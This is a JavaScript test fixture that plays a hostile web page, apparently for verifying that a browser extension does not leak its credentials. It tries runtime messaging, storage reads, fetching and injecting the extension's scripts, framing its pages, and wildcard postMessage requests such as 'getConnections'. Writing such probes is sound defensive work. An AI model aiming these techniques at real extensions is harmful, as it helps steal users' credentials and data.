// A hostile page: tries every way a web page has to reach the extension and its credentials.
// The extension id arrives in the URL hash (a real attacker knows it from the Web Store).
(() => {
  const extensionId = location.hash.slice(1);
  const base = `chrome-extension://${extensionId}`;
  const result = {
    runtime: null,
    sendMessage: null,
    fetches: {},
    scripts: {},
    frames: {},
    received: [],
    storage: null,
  };
  window.__attack = result;
  window.addEventListener('message', (event) => {
    if (event.source !== window) result.received.push({ origin: event.origin, data: JSON.stringify(event.data) });
  });

  async function run() {
    const runtime = globalThis.chrome?.runtime;
    result.runtime = typeof runtime?.sendMessage;
    try {
      // Without externally_connectable, chrome.runtime.sendMessage does not exist on web pages.
      const answer = await runtime.sendMessage(extensionId, { type: 'getConnections', input: {} });
      result.sendMessage = `answered: ${JSON.stringify(answer)}`;
    } catch (error) {
      result.sendMessage = `failed: ${String(error)}`;
    }
    try {
      result.storage = `readable: ${JSON.stringify(await globalThis.chrome.storage.local.get(null))}`;
    } catch (error) {
      result.storage = `failed: ${String(error)}`;
    }
    for (const path of [
      'manifest.json',
      'sidepanel.html',
      'options.html',
      'background.js',
      'content-scripts/content.js',
      'icon/32.png',
    ]) {
      try {
        const response = await fetch(`${base}/${path}`);
        result.fetches[path] = `status ${response.status}: ${(await response.text()).slice(0, 200)}`;
      } catch (error) {
        result.fetches[path] = `failed: ${String(error)}`;
      }
    }
    for (const path of ['background.js', 'content-scripts/content.js']) {
      result.scripts[path] = await new Promise((resolve) => {
        const script = document.createElement('script');
        script.src = `${base}/${path}`;
        script.onload = () => resolve('loaded');
        script.onerror = () => resolve('error');
        document.head.append(script);
        setTimeout(() => resolve('timeout'), 3000);
      });
    }
    await Promise.all(
      ['sidepanel.html', 'options.html'].map(
        (path) =>
          new Promise((resolve) => {
            const frame = document.createElement('iframe');
            frame.src = `${base}/${path}`;
            frame.onload = () => {
              let readable = 'not readable';
              try {
                readable = `readable: ${frame.contentDocument?.body ? frame.contentDocument.body.innerHTML.slice(0, 200) : ''}`;
              } catch (error) {
                readable = `not readable: ${String(error)}`;
              }
              // Ask whatever is in the frame for the connection, in the protocol's own shape.
              for (const message of [
                { type: 'getConnections', input: {} },
                { type: 'getSettings', input: {} },
                { event: 'panelIntent', intent: { kind: 'showCustomer', email: 'ada.lovelace@example.com' } },
              ]) {
                frame.contentWindow.postMessage(message, '*');
              }
              result.frames[path] = readable;
              resolve();
            };
            document.body.append(frame);
            setTimeout(resolve, 3000);
          }),
      ),
    );
    // Every frame of the page, including any the extension may have added.
    for (let index = 0; index < window.frames.length; index += 1) {
      window.frames[index].postMessage({ type: 'getConnections', input: {} }, '*');
    }
    window.postMessage(
      { type: 'showCustomerFromPage', input: { email: 'ada.lovelace@example.com', how: 'click' } },
      '*',
    );
    await new Promise((resolve) => setTimeout(resolve, 500));
    result.done = true;
  }
  window.__runAttack = run;
})();
